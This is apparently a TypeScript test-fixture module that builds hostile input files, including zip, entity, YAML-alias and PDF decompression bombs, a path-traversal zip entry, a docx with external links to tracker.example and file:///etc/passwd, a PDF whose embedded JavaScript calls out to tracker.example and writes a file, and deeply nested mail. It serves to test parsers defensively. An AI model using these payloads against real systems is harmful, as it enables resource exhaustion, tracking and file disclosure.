import { deflateSync, zipSync } from 'fflate';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const megabytes = (count: number, letter = 'a'): Uint8Array =>
  new Uint8Array(count * 1_000_000).fill(letter.charCodeAt(0));

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const contentTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const rootRelations =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

/** A Word file of one paragraph, with other or more parts. */
export function docx(parts: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const all: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': contentTypes,
    '_rels/.rels': rootRelations,
    'word/document.xml': wordDocument('<w:p><w:r><w:t>The pier is 140 metres long.</w:t></w:r></w:p>'),
    ...parts,
  };
  return zip(all);
}

const wordDocument = (body: string, doctype = ''): string =>
  `<?xml version="1.0"?>${doctype}<w:document ${w} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}</w:body></w:document>`;

const zip = (parts: Readonly<Record<string, string | Uint8Array>>): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? bytes(part) : part]),
    ),
  );

const entities =
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';

/** A zip that swells, deep inside a zip, under a name that a reader opens. */
export const zipBomb = (): Uint8Array => docx({ 'word/document.xml': megabytes(60, ' ') });
export const nestedZip = (): Uint8Array =>
  zip({ 'inner.zip': zip({ 'core.zip': zip({ bomb: megabytes(20) }) }) });
export const outside = (): Uint8Array =>
  zip({ '../../escaped.xhtml': '<p>out</p>', 'META-INF/container.xml': '<container/>' });
export const entityBomb = (): Uint8Array =>
  docx({ 'word/document.xml': wordDocument('<w:p><w:r><w:t>&c;</w:t></w:r></w:p>', entities) });

/** A part that says it unpacks to ten bytes and unpacks to 40 million. */
export function lyingZip(): Uint8Array {
  const archive = docx({ 'word/document.xml': megabytes(40, ' ') });
  const size = new Uint8Array(new Uint32Array([40_000_000]).buffer);
  for (let at = 0; at + 4 <= archive.length; at++)
    if (size.every((byte, n) => archive[at + n] === byte)) archive.set([10, 0, 0, 0], at);
  return archive;
}

/** Pictures and a template that lie on another machine, and a picture that is a file of this one. */
export function externalLinks(): Uint8Array {
  const picture = (id: string) =>
    `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const external = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  return docx({
    'word/document.xml': wordDocument(
      `${picture('r1')}${picture('r2')}<w:p><w:hyperlink r:id="r3"><w:r><w:t>The buoy weighs 900 kilograms.</w:t></w:r></w:hyperlink></w:p>`,
    ),
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external('r1', 'image', 'http://tracker.example/a.png')}${external('r2', 'image', 'file:///etc/passwd')}${external('r3', 'hyperlink', 'http://tracker.example/')}${external('r4', 'attachedTemplate', 'http://tracker.example/t.dotm')}</Relationships>`,
  });
}

/** A PDF of one line; `catalog` and `more` are put into it as they are. */
export function pdf(line: string, catalog = '', more = '', stream?: Uint8Array): Uint8Array {
  const content = stream ?? bytes(`BT /F1 12 Tf 72 720 Td (${line}) Tj ET`);
  const filter = stream ? '/Filter /FlateDecode' : '';
  const head = bytes(
    `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >> endobj\n5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj\n${more}\n4 0 obj << /Length ${content.length} ${filter} >> stream\n`,
  );
  const tail = bytes('\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
  return Buffer.concat([head, content, tail]);
}

export const scriptedPdf = (): Uint8Array =>
  pdf(
    'The crane lifts 12 tonnes.',
    '/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
    '6 0 obj << /S /JavaScript /JS (app.launchURL("http://tracker.example/"); this.submitForm("http://tracker.example/"); require("fs").writeFileSync("owned", "");) >> endobj\n7 0 obj << /S /URI /URI (http://tracker.example/) >> endobj',
  );

/** A page whose content unpacks to 600 MB. */
export const swellingPdf = (): Uint8Array => pdf('', '', '', zlib(megabytes(150, ' ')));

/** fflate's raw deflate in zlib's frame; pdf.js does not miss the checksum. */
const zlib = (data: Uint8Array): Uint8Array =>
  Buffer.concat([Uint8Array.from([0x78, 0x9c]), deflateSync(data)]);

/** The words again and again up to a size, without a line break. */
export const endless = (words: string, size: number): string =>
  words.repeat(Math.ceil(size / words.length)).slice(0, size);

/** Nine lists, each of nine of the one before: 387 million values when they are all written out. */
export const aliasBomb = (): string =>
  [
    'a: &a [x,x,x,x,x,x,x,x,x]',
    ...'bcdefghi'
      .split('')
      .map((name, n) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[n]}`).join(',')}]`),
  ].join('\n');

/** Parts within parts, deeper than any mail program writes. */
export function nestedMail(depth: number): string {
  const parts = Array.from(
    { length: depth },
    (_, n) => `Content-Type: multipart/mixed; boundary="b${n}"\n\n--b${n}\n`,
  );
  return `From: a@b.example\nSubject: deep\n${parts.join('')}Content-Type: text/plain\n\nThe net is torn.\n`;
}
